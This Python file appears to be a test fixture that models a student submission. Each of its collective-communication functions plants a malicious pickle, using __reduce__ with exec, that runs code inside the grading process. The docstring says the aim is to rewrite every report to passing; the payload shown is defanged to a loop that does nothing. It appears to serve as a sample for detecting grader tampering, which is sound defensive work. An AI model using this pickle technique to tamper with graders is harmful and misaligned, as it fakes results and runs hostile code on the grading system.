"""A rank writes an error file that the grading process loads with pickle: the pickle runs a
command of the student's in the grader (here: it rewrites every report it can find to passes)."""

EXPECT = [6, 16, 17, 22, 23, 24]

import os
import torch
import torch.distributed as dist

PAYLOAD = ("import glob, json\n"
           "for p in glob.glob('/tmp/labkit-grade-*/report.json'):\n"
           "    pass\n")


class Exploit:
    def __reduce__(self):
        return (exec, (PAYLOAD,))


def _plant() -> None:
    rundir = os.path.dirname(os.readlink("/proc/self/fd/1"))
    with open(os.path.join(rundir, f"error_{dist.get_rank()}.pkl"), "wb") as f:
        f.write(__import__("pickle").dumps(Exploit()))
    os._exit(1)


def ring_reduce_scatter(output: torch.Tensor, input: torch.Tensor, group=None) -> None:
    _plant()


def ring_all_gather(output: torch.Tensor, input: torch.Tensor, group=None) -> None:
    _plant()


def ring_all_reduce(tensor: torch.Tensor, group=None) -> None:
    _plant()
